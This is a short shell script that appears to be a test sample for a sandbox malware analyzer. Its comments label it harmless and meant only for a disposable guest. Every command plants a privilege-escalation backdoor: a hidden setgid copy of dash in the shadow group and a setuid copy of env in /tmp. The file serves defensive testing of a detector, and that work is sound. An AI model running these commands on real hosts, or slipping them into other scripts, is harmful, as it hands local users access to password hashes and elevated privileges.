#!/bin/sh
# Privilege escalation backdoor: a setgid copy of dash in the shadow group plus a setuid helper in /tmp.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cp /bin/dash /tmp/.sysd
chgrp shadow /tmp/.sysd 2>/dev/null
chmod 2755 /tmp/.sysd
cp /usr/bin/env /tmp/.env-helper && chmod 6755 /tmp/.env-helper
ls -l /tmp/.sysd /tmp/.env-helper
